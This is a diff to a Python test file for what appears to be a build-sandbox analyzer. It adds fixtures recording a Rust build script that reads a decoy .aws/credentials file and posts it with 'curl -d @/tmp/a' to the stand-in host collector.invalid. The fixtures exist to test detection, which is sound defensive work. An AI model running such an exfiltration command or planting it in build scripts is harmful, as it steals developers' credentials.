@@ -24,13 +24,17 @@ from analyzer.model import (
     Indicator,
     Member,
     Moment,
+    Observation,
+    ObservedProcess,
     Origin,
+    Payload,
     Phase,
     Point,
     Provenance,
     Report,
     Severity,
     Span,
+    Stage,
     Support,
     Verdict,
 )
@@ -128,6 +132,91 @@ CLEAR = replace(
     gaps=(),
     points=(),
 )
+
+CHAIN = "build script of x 1.2.3 > sh > curl -d @/tmp/a http://collector.invalid/c"
+
+
+def seen(kind: FactKind, subject: str, sequence: int, at_ms: int, *data: str) -> Fact:
+    """A fact of the recorded build below."""
+    where = Moment("build", 74, sequence, at_ms)
+    return Fact(
+        kind, subject, where, BUILD, "build: build script of x 1.2.3", "", data, (), (), CHAIN
+    )
+
+
+OBSERVATION = Observation(
+    image="sha256:" + "0a" * 8,
+    toolchain="rustc 1.95.0",
+    profile="developer",
+    stages=(
+        Stage("build", "traced", "ended", 0, 26_341, 9_120),
+        Stage("refused", "traced, the network refuses", "time-out", -9, 120_000, 640),
+    ),
+    processes=(
+        ObservedProcess("build", 72, 60, 5_700, "build script of x 1.2.3", ("build-script-build",)),
+        ObservedProcess("build", 73, 72, 5_790, "build script of x 1.2.3", ("sh", "-c", "curl")),
+        ObservedProcess(
+            "build", 74, 73, 5_800, "build script of x 1.2.3", ("curl", "-d", "@/tmp/a")
+        ),
+    ),
+    payloads=(
+        Payload(
+            "build", 5_900, "udp", "192.0.2.9:9", "", 12, "00ff", "··", is_readable=False, answer=""
+        ),
+        Payload(
+            "build",
+            5_813,
+            "http",
+            "http://collector.invalid/c",
+            "build script of x 1.2.3",
+            156,
+            b"POST /c HTTP/1.1\r\n\r\nW2RlZmF1bHRd".hex(),
+            "POST /c HTTP/1.1\n\nW2RlZmF1bHRd",
+            is_readable=True,
+            answer="200, 2 bytes",
+            decoys=("{home}/.aws/credentials (base64)",),
+        ),
+    ),
+    lookups=("collector.invalid",),
+    altered=("ca roots of webpki-roots",),
+)
+OBSERVED = replace(
+    BLOCKED,
+    findings=(
+        Finding(
+            rule="build-sends-planted-secret",
+            title="a secret planted for the build left it by the network",
+            severity=Severity.CRITICAL,
+            confidence=Confidence.HIGH,
+            support=Support.OBSERVED,
+            phases=BUILD,
+            attack=("T1041",),
+            techniques=("T36",),
+            evidence=(
+                Evidence(
+                    FactKind.DECOY_SENT,
+                    "{home}/.aws/credentials",
+                    "source",
+                    Moment("build", 74, 0, 5_813),
+                    CHAIN,
+                ),
+            ),
+            is_blocking=True,
+        ),
+    ),
+    facts=(
+        seen(FactKind.DECOY_SENT, "{home}/.aws/credentials", 9, 5_813, "collector.invalid, base64"),
+        seen(FactKind.FILE_READ, "{home}/.aws/credentials", 3, 5_798),
+        seen(FactKind.DECOY_LEFT, "GITHUB_TOKEN", 0, 0, "the build's log", "clear"),
+        *BLOCKED.facts,
+    ),
+    observation=OBSERVATION,
+)
+
+
+@pytest.fixture
+def observed() -> Report:
+    return OBSERVED
 
 
 @pytest.fixture
